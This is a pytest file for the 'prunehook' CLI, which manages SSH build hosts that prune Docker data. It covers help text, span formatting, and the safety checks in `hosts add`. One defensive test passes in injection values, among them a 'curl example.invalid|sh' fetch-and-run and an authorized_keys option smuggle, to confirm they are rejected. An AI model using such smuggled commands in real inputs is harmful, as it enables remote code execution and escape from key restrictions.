"""The `prunehook` command: every command listed with its help, `hosts add` against a real
sshd, and what `status` and `prune` say to people."""

from __future__ import annotations

import errno
import fcntl
import os
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.conftest import TOKEN
from tests.harness import find_binary, keygen
from webhook.cli.hosts import target_block
from webhook.cli.main import main
from webhook.cli.shown import relative, table
from webhook.core.duration import span

COMMANDS = ("serve", "check", "notify", "prune", "status", "targets", "hosts", "state")


def prunehook(*args: str, input: str | None = None):
    return CliRunner().invoke(main, list(args), input=input, prog_name="prunehook")


def test_help_lists_every_command():
    listed = prunehook("--help")
    assert listed.exit_code == 0
    commands = listed.output.split("Commands:")[1]
    assert [line.split()[0] for line in commands.strip().splitlines()] == list(COMMANDS)


@pytest.mark.parametrize(
    "command", [*([c] for c in COMMANDS), ["hosts", "add"], ["state", "copy"]], ids=str
)
def test_every_command_has_help(command):
    shown = prunehook(*command, "--help")
    assert shown.exit_code == 0, shown.output
    assert shown.output.startswith(f"Usage: prunehook {' '.join(command)} ")


def test_version_is_the_package_version():
    from importlib.metadata import version

    assert prunehook("--version").output == f"prunehook, version {version('prunehook')}\n"


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0, "0 s"), (45, "45 s"), (720, "12 min"), (11_520, "3 h 12 min"), (10_805, "3 h"),
     (187_200, "2 d 4 h"), (86_400 + 59, "1 d")],
)  # fmt: skip
def test_a_span_says_its_two_largest_units(seconds, said):
    assert span(seconds) == said


def test_times_are_said_from_now():
    assert relative(1000 + 11_520, 1000) == "in 3 h 12 min"
    assert relative(1000 - 300, 1000) == "5 min ago"
    assert relative(1000.4, 1000) == "now"
    assert relative(None, 1000) == "never"


def test_a_table_aligns_its_columns():
    assert table(("A", "BB", "C"), [("long", "x", "free text"), ("s", "yyy", "")]) == (
        "A     BB   C\nlong  x    free text\ns     yyy"
    )


# -- hosts add ---------------------------------------------------------------------------
EXISTING = """\
# build hosts: edited by hand, and by `prunehook hosts add`
[defaults]
until = "24h"  # what builds made today stays

[targets.build-1]
host = "127.0.0.2"
aliases = ["ci-1"]
"""


def fingerprint_of(host) -> str:
    keygen = find_binary("ssh-keygen")
    shown = subprocess.run(
        [keygen, "-lf", f"{host.host_key}.pub"], capture_output=True, text=True, check=True
    )
    return shown.stdout.split()[1]


@pytest.fixture
def operator(tmp_path, monkeypatch, make_sshd, docker_engine):
    """An operator with a targets file of one host, about to add a real build host whose
    key already carries the guard; known_hosts does not know it yet."""
    host = make_sshd(docker_host=docker_engine.host, docker_root=docker_engine.data_root)
    host.authorize(guarded=True)
    monkeypatch.chdir(tmp_path)
    targets = tmp_path / "targets.toml"
    targets.write_text(EXISTING)
    known_hosts = tmp_path / "ssh" / "known_hosts"
    for name, value in {
        "PRUNEHOOK_TARGETS_FILE": str(targets),
        "PRUNEHOOK_SSH_KEY_FILE": str(host.client_key),
        "PRUNEHOOK_SSH_KNOWN_HOSTS": str(known_hosts),
        "PRUNEHOOK_DOCKER_ROOT": str(docker_engine.data_root),
        "PRUNEHOOK_TOKEN": TOKEN,
        "PRUNEHOOK_DB_PATH": str(tmp_path / "state.sqlite3"),
        "PRUNEHOOK_INSTANCE_PATH": str(tmp_path / "instance"),
    }.items():
        monkeypatch.setenv(name, value)
    host.targets, host.known_hosts_file = targets, known_hosts
    return host


def add(host, *more: str, input: str | None = None):
    return prunehook(
        "hosts", "add", "build-2", "--host", "127.0.0.1", "--port", str(host.port), *more,
        input=input,
    )  # fmt: skip


def test_hosts_add_with_the_right_fingerprint_adds_the_host_and_its_checks_pass(operator):
    added = add(operator, "--alias", "ci-2", "--fingerprint", fingerprint_of(operator))

    assert added.exit_code == 0, added.output
    # the file keeps what was there, comments included, and gains the block
    assert operator.targets.read_text() == EXISTING + (
        f'\n[targets.build-2]\nhost = "127.0.0.1"\nport = {operator.port}\naliases = ["ci-2"]\n'
    )
    public = Path(f"{operator.host_key}.pub").read_text().split()
    assert operator.known_hosts_file.read_text() == (
        f"[127.0.0.1]:{operator.port} {public[0]} {public[1]}\n"
    )
    client = Path(f"{operator.client_key}.pub").read_text().split()
    line = (
        'restrict,command="/usr/local/bin/prunehook-guard --min-until 24h"'
        f" {client[0]} {client[1]} prunehook"
    )
    assert line in added.output.splitlines()
    assert "PASS  ssh login" in added.output
    assert "PASS  docker" in added.output
    assert "FAIL" not in added.output


def test_hosts_add_refuses_a_wrong_fingerprint_and_writes_nothing(operator):
    wrong = "SHA256:" + "A" * 43

    refused = add(operator, "--fingerprint", wrong)

    assert refused.exit_code == 1
    assert f"not {wrong} as given; nothing was written" in refused.output
    assert operator.targets.read_text() == EXISTING
    assert not operator.known_hosts_file.exists()
    assert list(operator.targets.parent.glob(".targets.toml.*")) == []


def test_hosts_add_refuses_another_key_for_the_host_past_an_unreadable_line(operator, tmp_path):
    """known_hosts is read as the runs read it: a line whose key is not base64 is passed
    over, and a different key already there for this host refuses the new one."""
    other = operator.known_hosts_line(keygen(tmp_path / "impostor"))
    before = f"[127.0.0.9]:22 ssh-ed25519 not*base64\n{other}"
    operator.known_hosts_file.parent.mkdir(parents=True)
    operator.known_hosts_file.write_text(before)

    refused = add(operator, "--fingerprint", fingerprint_of(operator))

    assert refused.exit_code == 1
    assert "holds another ssh-ed25519 key for [127.0.0.1]:" in refused.output
    assert operator.known_hosts_file.read_text() == before
    assert operator.targets.read_text() == EXISTING


def test_hosts_add_of_a_key_known_already_leaves_known_hosts_as_it_was(operator):
    known = operator.known_hosts_line(operator.host_key)
    operator.known_hosts_file.parent.mkdir(parents=True)
    operator.known_hosts_file.write_text(known)

    added = add(operator, "--fingerprint", fingerprint_of(operator))

    assert added.exit_code == 0, added.output
    assert "already knows this key" in added.output
    assert operator.known_hosts_file.read_text() == known


def test_hosts_add_refuses_a_targets_file_under_a_user_that_does_not_exist(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PRUNEHOOK_TARGETS_FILE", "~no-such-user-x/targets.toml")

    refused = prunehook("hosts", "add", "build-2", "--host", "127.0.0.1")

    assert refused.exit_code == 1
    assert "PRUNEHOOK_TARGETS_FILE: no home folder for ~no-such-user-x" in refused.output
    assert list(tmp_path.iterdir()) == []


def test_hosts_add_asks_and_a_no_writes_nothing(operator):
    refused = add(operator, input="n\n")

    assert refused.exit_code == 1
    assert fingerprint_of(operator) in refused.output
    assert "the key was not confirmed; nothing was written" in refused.output
    assert operator.targets.read_text() == EXISTING
    assert not operator.known_hosts_file.exists()


def test_hosts_add_asks_and_a_yes_adds_the_host(operator):
    added = add(operator, input="y\n")

    assert added.exit_code == 0, added.output
    assert "[targets.build-2]" in operator.targets.read_text()
    assert operator.known_hosts_file.read_text().startswith(f"[127.0.0.1]:{operator.port} ")


def test_a_port_given_is_written_even_the_usual_one_so_no_defaults_port_replaces_it():
    assert target_block("build-2", "10.0.0.5", 22, None, ()) == (
        '[targets.build-2]\nhost = "10.0.0.5"\nport = 22\n'
    )
    assert "port" not in target_block("build-2", "10.0.0.5", None, None, ())


def test_hosts_add_without_a_port_leaves_it_to_the_defaults_table(operator):
    operator.targets.write_text(
        EXISTING.replace("[defaults]\n", f"[defaults]\nport = {operator.port}\n")
    )
    before = operator.targets.read_text()

    added = prunehook(
        "hosts", "add", "build-2", "--host", "127.0.0.1", "--fingerprint", fingerprint_of(operator)
    )  # fmt: skip

    assert added.exit_code == 0, added.output
    assert operator.targets.read_text() == before + '\n[targets.build-2]\nhost = "127.0.0.1"\n'
    assert "PASS  ssh login" in added.output


def test_hosts_add_refuses_while_another_is_changing_the_targets_file(operator):
    folder = os.open(operator.targets.parent, os.O_RDONLY)
    try:
        fcntl.flock(folder, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as a running `hosts add` holds it
        refused = add(operator, "--fingerprint", fingerprint_of(operator))
    finally:
        os.close(folder)

    assert refused.exit_code == 1
    assert "another prunehook hosts add is changing" in refused.output
    assert operator.targets.read_text() == EXISTING
    assert not operator.known_hosts_file.exists()


def test_hosts_add_on_a_file_system_without_locks_goes_on_and_says_so(operator, monkeypatch):
    def no_locks(descriptor: int, operation: int) -> None:
        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))

    monkeypatch.setattr(fcntl, "flock", no_locks)

    added = add(operator, "--fingerprint", fingerprint_of(operator))

    assert added.exit_code == 0, added.output
    assert f"note: cannot lock {operator.targets.parent} (No locks available)" in added.output
    assert "[targets.build-2]" in operator.targets.read_text()


def test_hosts_add_refuses_a_name_already_taken_naming_its_target(operator):
    refused = prunehook("hosts", "add", "build-1", "--host", "127.0.0.9")

    assert refused.exit_code == 1
    assert "refused: build-1 is already a target (root@127.0.0.2:22)" in refused.output
    assert operator.targets.read_text() == EXISTING


@pytest.mark.parametrize("port", ["0", "65536"])
def test_hosts_add_refuses_a_port_the_targets_file_would_refuse(operator, port):
    refused = prunehook("hosts", "add", "build-2", "--host", "127.0.0.9", "--port", port)

    assert refused.exit_code == 2
    assert f"Invalid value for '--port': {port} is not in the range 1<=x<=65535" in refused.output
    assert operator.targets.read_text() == EXISTING


def test_hosts_add_reads_the_targets_file_variable_from_a_dotenv(operator, monkeypatch):
    monkeypatch.delenv("PRUNEHOOK_TARGETS_FILE")
    Path(".env").write_text(f"PRUNEHOOK_TARGETS_FILE={operator.targets}\n")

    refused = prunehook("hosts", "add", "build-1", "--host", "127.0.0.9")

    assert refused.exit_code == 1
    assert "refused: build-1 is already a target (root@127.0.0.2:22)" in refused.output


def test_hosts_add_refuses_an_alias_taken_naming_the_other_target(operator):
    refused = add(operator, "--alias", "CI-1")

    assert refused.exit_code == 1
    assert "'ci-1' is also a name, host or alias of targets.build-1" in refused.output
    assert operator.targets.read_text() == EXISTING
    assert not operator.known_hosts_file.exists()


def test_hosts_add_prints_the_guard_options_the_policy_needs(operator, monkeypatch):
    monkeypatch.setenv("PRUNEHOOK_UNTIL", "48h")
    monkeypatch.setenv("PRUNEHOOK_MIN_FREE", "20%")
    monkeypatch.setenv("PRUNEHOOK_ALL", "true")
    monkeypatch.setenv("PRUNEHOOK_TIMEOUT_S", "600")  # past the guard's own 300 s
    operator.targets.write_text("")
    monkeypatch.delenv("PRUNEHOOK_TARGETS_FILE")
    fresh = operator.targets.parent / "new" / "targets.toml"
    monkeypatch.setenv("PRUNEHOOK_TARGETS_FILE", str(fresh))
    docker_host = "unix:///run/user/1000/docker.sock"

    added = add(operator, "--fingerprint", fingerprint_of(operator), "--docker-host", docker_host)

    assert "[targets.build-2]" in fresh.read_text()  # made with its first host
    guard = (
        '"/usr/local/bin/prunehook-guard --min-until 48h --timeout 600 --allow-all'
        f' --allow-keep-storage --docker-host {docker_host}"'
    )
    assert f"restrict,command={guard} " in added.output


def test_a_prune_outweighed_by_other_writes_shows_dockers_count_not_a_negative_size():
    from webhook.cli.shown import status_row

    shown = {
        "name": "b", "enabled": True, "in_flight": None, "last_result": "ok",
        "last_goal_met": None, "last_run_ts": 0.0, "last_freed_bytes": -548_900,
        "last_reclaimed": "1.2GB", "eligible_now": True, "next_eligible_ts": None,
        "forecast": None,
    }  # fmt: skip
    assert status_row(shown, 60)[3] == "1.2GB"


@pytest.mark.parametrize(
    "option",
    [
        ("--docker-host", 'unix:///x",port-forwarding,permitopen="*:*'),
        ("--docker-host", "unix:///x;curl example.invalid|sh"),
        ("--guard", "/usr/local/bin/prunehook-guard; sh"),
    ],
)
def test_hosts_add_refuses_what_would_add_to_the_authorized_keys_line(operator, option):
    refused = add(operator, "--fingerprint", fingerprint_of(operator), *option)

    assert refused.exit_code == 2
    assert f"Invalid value for '{option[0]}'" in refused.output
    assert operator.targets.read_text() == EXISTING
    assert not operator.known_hosts_file.exists()


def test_a_configuration_error_is_said_in_a_line_naming_the_variable(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PRUNEHOOK_TARGETS_FILE", str(tmp_path / "missing.toml"))

    for command in ("status", "targets", "prune", "check"):
        said = CliRunner().invoke(main, [command])
        assert said.exit_code == 2, command
        assert "PRUNEHOOK_TARGETS_FILE: cannot read" in said.output
        assert "Traceback" not in said.output


def test_status_without_a_target_says_what_to_set_and_exits_2(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PRUNEHOOK_INSTANCE_PATH", str(tmp_path / "instance"))

    said = prunehook("status")

    assert said.exit_code == 2
    assert said.output == "no target: set PRUNEHOOK_SSH_HOST or PRUNEHOOK_TARGETS_FILE\n"


def test_prunehook_serve_loads_none_of_the_other_commands():
    """gunicorn's workers build the app; the command that starts them imports no more."""
    import subprocess
    import sys

    loaded = subprocess.run(
        [sys.executable, "-c", "import sys; from click.testing import CliRunner;"
         " from webhook.cli.main import main; CliRunner().invoke(main, ['serve', '--help']);"
         " print(sorted(m for m in sys.modules if m.startswith('webhook')))"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert loaded.stdout.strip() == str(
        [
            "webhook",
            "webhook.cli",
            "webhook.cli.main",
            "webhook.cli.serve",
            "webhook.commands",
            "webhook.logs",
        ]
    )


def test_hosts_add_edits_a_symlinked_targets_file_where_it_lies_and_quotes_a_dotted_name(
    operator, monkeypatch
):
    link = operator.targets.parent / "linked.toml"
    link.symlink_to(operator.targets)
    monkeypatch.setenv("PRUNEHOOK_TARGETS_FILE", str(link))

    added = prunehook(
        "hosts", "add", "build.2", "--host", "127.0.0.1", "--port", str(operator.port),
        "--fingerprint", fingerprint_of(operator),
    )  # fmt: skip

    assert added.exit_code == 0, added.output
    assert link.is_symlink()
    assert f'[targets."build.2"]\nhost = "127.0.0.1"\nport = {operator.port}\n' in (
        operator.targets.read_text()
    )
